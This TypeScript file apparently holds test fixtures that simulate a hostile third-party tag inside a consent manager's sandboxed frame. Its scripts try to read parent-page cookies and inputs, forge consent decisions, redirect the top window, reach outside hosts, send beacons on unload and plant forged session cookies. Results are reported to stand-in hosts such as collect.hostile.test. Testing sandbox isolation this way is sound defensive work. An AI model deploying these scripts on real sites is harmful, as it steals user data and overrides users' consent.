/* Attacks of a hostile tag, as scripts that run in its frame. Each ends with `tell(result)`, which is allowed, because it goes to the tag's own host. */

/** Runs before every attack. */
export const prelude = `
  const tell = (got) => fetch('https://collect.hostile.test/told', { method: 'POST', mode: 'no-cors', body: JSON.stringify(got) });
  const attempt = async (act) => { try { return String(await act()) } catch (error) { return 'refused: ' + error.name } };
`;

export const readsThePage = `(async () => tell({
  document: await attempt(() => parent.document.title),
  top: await attempt(() => top.document.cookie),
  form: await attempt(() => parent.frames.document.querySelector('input').value),
  opener: await attempt(() => opener),
  candor: await attempt(() => parent.candor.consent.get()),
  storage: await attempt(() => parent.localStorage.length),
  cookies: document.cookie,
  ownStorage: Object.keys(localStorage).join(),
  database: await attempt(() => new Promise((resolve, reject) => { const opening = indexedDB.open('x'); opening.onsuccess = () => resolve('opened'); opening.onerror = () => reject(opening.error) })),
}))()`;

export const forgesADecision = (origin: string) => `(async () => {
  const body = JSON.stringify({ categories: { functional: true, analytics: true, performance: true, advertisement: true }, surface: 'banner' });
  const byForm = () => { const form = document.createElement('form'); form.method = 'post'; form.action = '${origin}/consent/decision'; form.innerHTML = '<input name=action value=accept>'; document.body.append(form); form.submit(); };
  parent.postMessage({ type: 'start', choices: { analytics: true } }, '*');
  await tell({
    fetch: await attempt(() => fetch('${origin}/consent/decision', { method: 'POST', mode: 'no-cors', body })),
    beacon: await attempt(() => navigator.sendBeacon('${origin}/consent/decision', body) && 'queued'),
    form: await attempt(byForm),
  });
})()`;

export const leadsAway = `(async () => {
  const link = (target) => { const a = Object.assign(document.createElement('a'), { href: 'https://away.test/' + target, target }); document.body.append(a); a.click(); };
  const got = {
    top: await attempt(() => { top.location = 'https://away.test/top'; return 'set' }),
    parent: await attempt(() => parent.location.replace('https://away.test/parent')),
    window: await attempt(() => window.open('https://away.test/window')),
  };
  link('_top'); link('_blank'); link('_parent');
  const frame = document.createElement('iframe'); frame.src = 'https://away.test/frame'; document.body.append(frame);
  await tell(got);
  location.href = 'https://away.test/self';
})()`;

export const goesElsewhere = (udpPort: number) => `(async () => {
  const away = 'https://elsewhere.test/';
  const element = (name, fields) => document.head.append(Object.assign(document.createElement(name), fields));
  element('script', { src: away + 'script' });
  element('link', { rel: 'stylesheet', href: away + 'style' });
  element('link', { rel: 'prefetch', href: away + 'prefetch' });
  element('link', { rel: 'preload', as: 'image', href: away + 'preload' });
  element('link', { rel: 'modulepreload', href: away + 'module' });
  element('style', { textContent: '@import url(' + away + 'import); @font-face { font-family: x; src: url(' + away + 'font) } body { font-family: x; background: url(' + away + 'background) }' });
  document.body.append(Object.assign(document.createElement('video'), { src: away + 'video', autoplay: true }), Object.assign(document.createElement('iframe'), { src: away + 'frame' }), Object.assign(document.createElement('iframe'), { srcdoc: '<img src="' + away + 'srcdoc">' }), Object.assign(document.createElement('object'), { data: away + 'object' }), Object.assign(document.createElement('embed'), { src: away + 'embed' }));
  new Image().src = away + 'image';
  navigator.sendBeacon(away + 'beacon', 'x');
  for (const make of [() => new WebSocket('wss://elsewhere.test/socket'), () => new EventSource(away + 'events'), () => new Worker(away + 'worker'), () => new Worker(URL.createObjectURL(new Blob(['fetch("' + away + 'blob")']))), () => fetchLater(away + 'later', { activateAfter: 0 }), () => eval('fetch("' + away + 'eval")'), () => import(away + 'import')]) await attempt(make);
  const got = { fetch: await attempt(() => fetch(away + 'fetch', { mode: 'no-cors' })) };
  const call = await attempt(async () => { const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); await new Promise((resolve) => { peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve(); setTimeout(resolve, 1500) }) });
  await tell({ ...got, call });
})()`;

export const sendsAfterwards = `(async () => {
  Event.prototype.stopImmediatePropagation = Event.prototype.stopPropagation = Element.prototype.remove = () => {};
  await attempt(() => { document.open(); document.write('<p>new</p>'); document.close(); });
  await attempt(() => { document.body.append(document.createElement('div')); const root = document.body.lastChild.attachShadow({ mode: 'closed' }); root.innerHTML = '<iframe srcdoc="<script src=https://tags.hostile.test/child.js></scr' + 'ipt>"></iframe>'; });
  await attempt(() => document.body.setHTMLUnsafe('<div><template shadowrootmode=closed><iframe srcdoc="<script src=https://tags.hostile.test/child.js></scr' + 'ipt>"></iframe></template></div>'));
  const word = (name) => () => { navigator.sendBeacon('https://collect.hostile.test/afterwards/' + name, 'x'); fetch('https://collect.hostile.test/afterwards/' + name, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' }); new Image().src = 'https://collect.hostile.test/afterwards/' + name };
  for (const type of ['pagehide', 'unload', 'beforeunload', 'visibilitychange', 'freeze']) {
    addEventListener(type, word(type), true);
    document.addEventListener(type, word('document-' + type), true);
    window['on' + type] = word('on' + type);
  }
  const child = document.createElement('iframe');
  child.srcdoc = '<script src="https://tags.hostile.test/child.js"></' + 'script>';
  document.body.append(child);
  const bare = document.createElement('iframe');
  document.body.append(bare);
  await attempt(() => bare.contentWindow.addEventListener('pagehide', word('bare')));
  await attempt(() => fetchLater('https://collect.hostile.test/afterwards/later', { method: 'POST', body: 'x' }));
  setInterval(() => fetch('https://collect.hostile.test/tick?at=' + Date.now(), { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' }), 25);
  await tell({});
})()`;

/** Loaded by the child frame, if that is possible. */
export const child = `for (const type of ['pagehide', 'unload', 'visibilitychange']) addEventListener(type, () => navigator.sendBeacon('https://collect.hostile.test/afterwards/child', 'x')); navigator.sendBeacon('https://collect.hostile.test/child-ran', 'x')`;

export const keepsWhatItMayNot = `(async () => {
  document.cookie = '_hostile=kept; max-age=999999999';
  document.cookie = 'candor-consent=forged; path=/';
  document.cookie = 'candor-proof=forged; path=/';
  document.cookie = 'session=taken; path=/';
  document.cookie = '_hostile_long=' + 'x'.repeat(5000);
  document.cookie = '_hostile_odd=a\\u0000b"c,d';
  localStorage.setItem('hostile-key', 'kept');
  localStorage.setItem('unregistered', 'x');
  await tell({ own: document.cookie.includes('session=taken') });
})()`;

export const keepsTooMuch = `(async () => {
  for (let at = 0; at < 24; at++) document.cookie = '_hostile_' + at + '=' + 'x'.repeat(1000) + '; max-age=999';
  localStorage.setItem('hostile-key', 'said last');
  await tell({});
})()`;

export const readsItsNeighbour = `(async () => tell({ cookies: document.cookie, storage: JSON.stringify(localStorage), frames: await attempt(() => [...Array(parent.frames.length).keys()].map((at) => parent.frames[at].document.cookie)) }))()`;

export const floods = `(async () => {
  for (let turn = 0; turn < 20000; turn++) { document.cookie = '_hostile' + (turn % 50) + '=' + turn; if (turn % 10 === 0) parent.postMessage({ type: 'keep', turn }, '*'); }
  await tell({});
})()`;
